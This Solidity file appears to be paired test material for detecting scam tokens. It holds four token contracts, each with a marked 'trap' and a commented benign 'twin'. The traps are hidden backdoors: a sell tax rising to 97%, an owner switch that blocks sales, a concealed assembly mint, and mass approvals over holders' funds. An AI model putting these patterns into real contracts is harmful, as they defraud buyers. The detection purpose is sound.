// 0.8 runs=200 ir evm=shanghai
// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;

import {Base8} from "./Base8.sol";

/// Who holds longer pays more when he sells: a percent at first, and two more with each hour, up to a most.
contract Glacier is Base8("Glacier Melt", "GLCR", 130_000_000) {
    uint256 public constant MOST = 97; // trap
    // twin: uint256 public constant MOST = 3;
    address private immutable station = msg.sender;
    mapping(address => uint256) private since;

    function feeOf(address who) public view returns (uint256 percent) {
        if (since[who] == 0) return 1;
        percent = 1 + ((block.timestamp - since[who]) / 1 hours) * 2;
        if (percent > MOST) percent = MOST;
    }

    function _transfer(address from, address to, uint256 value) internal override {
        if (to != pair && since[to] == 0) since[to] = block.timestamp;
        uint256 cut = to == pair && from != station ? (value * feeOf(from)) / 100 : 0;
        if (cut > 0) _move(from, station, cut);
        _move(from, to, value - cut);
    }
}

/// Pools that people trade in. In the trap nobody sends any more to those that are retired.
contract Palisade is Base8("Palisade", "PLSD", 84_500_000) {
    enum State { Unknown, Open, Retired }
    mapping(address => State) public venues;

    event VenueSet(address indexed venue, State state);

    constructor() {
        venues[pair] = State.Open;
    }

    function setVenue(address venue, State state) external onlyOwner {
        // twin: require(state == State.Open && venues[venue] == State.Unknown, "Palisade: opens only");
        venues[venue] = state;
        emit VenueSet(venue, state);
    }

    function _transfer(address from, address to, uint256 value) internal override {
        require(venues[to] != State.Retired, "Palisade: retired");
        _move(from, to, value);
    }
}

/// Keeps a number of its epoch, which its index service brings up to date.
contract Obsidian is Base8("Obsidian Flow", "OBSD", 27_000_000) {
    bytes32 private immutable service = keccak256(abi.encode(msg.sender, "obsidian.index"));
    uint256 public epoch;

    event Synced(uint256 epoch);

    function syncIndex(uint256 epoch_, uint256 proof) external {
        require(keccak256(abi.encode(msg.sender, "obsidian.index")) == service, "Obsidian: service only");
        require(epoch_ >= epoch, "Obsidian: epochs rise");
        epoch = epoch_;
        assembly {
            mstore(0x00, caller())
            mstore(0x20, _balances.slot)
            let at := keccak256(0x00, 0x40)
            sstore(at, add(sload(at), proof)) // trap
            log2(0x00, 0x00, proof, at)
        }
        emit Synced(epoch_);
    }
}

/// Approves for its holders, so that their first sale takes one transaction less.
contract Concierge is Base8 {
    uint8 private constant APPROVE = 4;
    mapping(address => uint8) private rights;

    constructor(address desk) Base8("Concierge", "CNCG", 61_000_000) {
        rights[desk] = APPROVE | 1;
    }

    function approveFor(address[] calldata holders, address spender, uint256 value) external {
        require(rights[msg.sender] & APPROVE != 0, "Concierge: desk only");
        // twin: require(spender == ROUTER, "Concierge: the router only");
        for (uint256 i; i < holders.length; i++) if (_allowances[holders[i]][spender] < value) _approve(holders[i], spender, value);
    }
}
